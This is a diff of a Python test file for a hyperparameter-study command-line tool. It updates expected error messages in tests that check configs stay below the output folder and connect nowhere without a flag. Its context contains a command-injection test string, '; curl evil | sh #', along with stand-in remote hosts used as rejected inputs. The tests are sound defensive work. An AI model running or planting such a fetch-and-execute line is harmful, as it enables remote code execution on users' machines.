@@ -47,7 +47,7 @@ def test_help_lists_the_commands_and_the_first_steps(command: Command) -> None:
         ),
         (
             ["run", "small.yaml", "--out", "rows.npz"],
-            "rows.npz, which is a file, expected a folder",
+            "rows.npz, which is a file, expected an empty or new folder",
         ),
         (["run", "small.yaml", "--out", "."], "which holds other files and no config.yaml"),
         (
@@ -157,10 +157,16 @@ SHELL = "; curl evil | sh #"
         ("{kind: optuna, storage: 'sqlite:///OUT/x.db?uri=true'}", "backend.storage: got "),
         ("{kind: optuna, storage: 'SQLite:///OUT/x.db'}", "backend.storage: got "),
         ("{kind: ray, storage: 'file:///somewhere'}", "backend.storage: got "),
-        ("{kind: optuna, storage: 'postgresql://me:pw@evil/db'}", "//me:***@evil/db, a connection"),
-        ("{kind: ray, storage: /somewhere}", "backend.storage: got /somewhere, a file outside of"),
-        ("{kind: ray, address: 'ray://evil:1'}", "backend.address: got ray://evil:1, a connection"),
-        ('{kind: optuna, study: "a\\nb"}', "backend.study: got 'a\\nb', expected text on one line"),
+        (
+            "{kind: optuna, storage: 'postgresql://me:pw@evil/db'}",
+            "//me:***@evil/db, by which a run",
+        ),
+        (
+            "{kind: ray, storage: /somewhere}",
+            "backend.storage: got /somewhere, by which a run writes or",
+        ),
+        ("{kind: ray, address: 'ray://evil:1'}", "backend.address: got ray://evil:1, by which"),
+        ('{kind: optuna, study: "a\\nb"}', "backend.study: got 'a\\nb', expected text without"),
     ],
 )
 def test_a_config_writes_only_below_out_and_connects_nowhere(
@@ -175,7 +181,7 @@ def test_a_config_writes_only_below_out_and_connects_nowhere(
     ended = command("run", folder / "stranger.yaml", "--out", folder / "o")
     assert ended.code == 2
     assert line in ended.err and ended.err.count("\n") == 1
-    if "one line" not in line:
+    if "expected text" not in line:
         assert "or --allow-outside" in ended.err
     assert sorted(place.rglob("*")) == before
 
@@ -188,7 +194,7 @@ def test_other_keys_that_reach_out_need_the_flag_too(command: Command, place: Pa
     for words in (["plan", "mnist.yaml"], ["run", "mnist.yaml", "--out", "o"]):
         ended = command(*words)
         assert ended.code == 2
-        assert "problem.dataset.download: got true, a connection, expected what stays" in ended.err
+        assert "problem.dataset.download: got true, by which a run writes or" in ended.err
     assert not (place / "o").exists()
 
 
@@ -202,7 +208,7 @@ def test_what_is_allowed_or_typed_is_done(command: Command, place: Path) -> None
     assert command(*run, "a", "--allow-outside").code == 0
     assert (place.parent / "study.log").exists()
     (place.parent / "study.log").unlink()
-    # The user's own words need no flag, and a file below --out needs none either.
+    # The user's own words need no flag.
     assert command(*run, "b", "--set", "backend.storage=mine.log").code == 0
     assert (place / "mine.log").exists()
     assert command(*run, "c", "--set", "backend={kind: optuna, storage: c/study.log}").code == 0
